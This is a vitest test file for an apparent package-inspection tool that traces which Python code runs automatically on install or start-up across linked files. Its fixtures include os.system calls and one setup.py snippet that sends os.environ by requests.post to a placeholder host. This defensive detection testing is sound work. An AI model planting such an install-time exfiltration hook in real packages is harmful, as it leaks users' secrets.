import { expect, test } from 'vitest';
import { link } from '../../../../server/src/inspect/python/link.ts';
import { does, followed } from './followed.ts';

const setup = { file: 'setup.py', module: null, trigger: 'install' } as const;
const helper = { file: 'acme/helper.py', module: 'acme.helper' };
const reaching =
  'import os\ndef run(c):\n  os.system("id")\nclass Job:\n  def go(self):\n    os.system("job")\n';

/** What runs by itself in the last of the files, tied to the others. */
function running(...files: readonly ReturnType<typeof followed>[]): readonly string[] {
  return does(link(files).at(-1) as ReturnType<typeof followed>).filter(
    (each) => !each.startsWith('called '),
  );
}

test.each([
  ['import acme.helper\nacme.helper.run(1)', ['install os.system("id")']],
  ['from acme.helper import run as r\nr(1)', ['install os.system("id")']],
  ['from acme import helper\nhelper.run(1)', ['install os.system("id")']],
  ['from acme.helper import Job\nJob().go()', ['install os.system("job")']],
  ['from acme.helper import run', []],
  ['def f():\n  from acme.helper import run\n  run(1)', []],
])('what is called from setup.py runs when it is installed %#', (source, expected) => {
  expect(running(followed(source, setup), followed(reaching, helper))).toEqual(expected);
});

test('names that a package passes on are followed', () => {
  const passing = followed('from .helper import run', { file: 'acme/__init__.py', module: 'acme' });
  const caller = followed('import acme\nacme.run(1)', setup);
  expect(running(caller, passing, followed(reaching, helper))).toEqual(['install os.system("id")']);
});

test('a module that code at start-up imports runs at start-up, and so does what that calls', () => {
  const line = followed('import acme.boot', { file: 'acme.pth', module: null, trigger: 'start-up' });
  const boot = followed('from acme import helper\nhelper.run(1)', {
    file: 'acme/boot.py',
    module: 'acme.boot',
  });
  expect(link([line, boot])[1]?.roots[0]?.trigger).toBe('start-up');
  expect(running(line, boot, followed(reaching, helper))).toEqual(['start-up os.system("id")']);
});

test('files that nothing ties together stay as they are', () => {
  const files = [followed('x = 1'), followed('import os\nos.getcwd()', { file: 'b.py', module: 'b' })];
  const tied = link(files);
  expect(tied[0]).toBe(files[0]);
  expect(tied[1]).toBe(files[1]);
});

test('files that call each other come to an end', () => {
  const one = followed('import b, os\ndef f():\n  b.g()\n  os.system("id")\nb.g()', {
    file: 'a.py',
    module: 'a',
  });
  const other = followed('import a, os\ndef g():\n  a.f()\n  os.system("x")', { file: 'b.py', module: 'b' });
  expect(running(one, other)).toEqual(['import a.f()', 'import os.system("x")']);
});

test('what is given to a function of another file stands in its calls', () => {
  const sending = followed(
    'import requests\ndef send(where, *, data=None):\n  requests.post(where + "/x", data=[data])',
    helper,
  );
  const caller = followed(
    'import os\nfrom acme.helper import send\nsend("https://a.example.invalid", data=os.environ)',
    setup,
  );
  const post = link([caller, sending])[1]?.roots.at(-1)?.calls.at(-1);
  expect(post).toMatchObject({ callee: 'requests.post' });
  expect(post?.keywords.get('data')).toMatchObject({ items: [{ path: 'os.environ' }] });
  expect(post?.keywords.get('data')?.origins).toMatchObject([{ kind: 'environment', text: '*' }]);
});

test('a function is entered from elsewhere although another of its file calls it too', () => {
  const source = 'import os\ndef first(c):\n  second("calm")\ndef second(c):\n  os.system(c)\n';
  const caller = followed('from acme.helper import second\nsecond("id")', setup);
  expect(running(caller, followed(source, helper))).toEqual(['install os.system("id")']);
});

test('a function that does nothing for what its own file gives it is followed for what others give', () => {
  const source = 'import os\ndef run(c):\n  if not c:\n    return\n  os.system(c)\nrun("")\n';
  const caller = followed('import acme.helper\nacme.helper.run("id")', setup);
  expect(running(caller, followed(source, helper))).toEqual(['install os.system("id")']);
});

test('functions that call each other are followed from elsewhere as deep as they lie', () => {
  const steps = Array.from({ length: 9 }, (_, n) => `def f${n}(c):\n  f${n + 1}(c)\n`).join('');
  const caller = followed('from acme.helper import f0\nf0("id")', setup);
  const found = running(caller, followed(`import os\n${steps}def f9(c):\n  os.system(c)\n`, helper));
  expect(found.filter((each) => each.includes('system'))).toEqual(['install os.system("id")']);
});
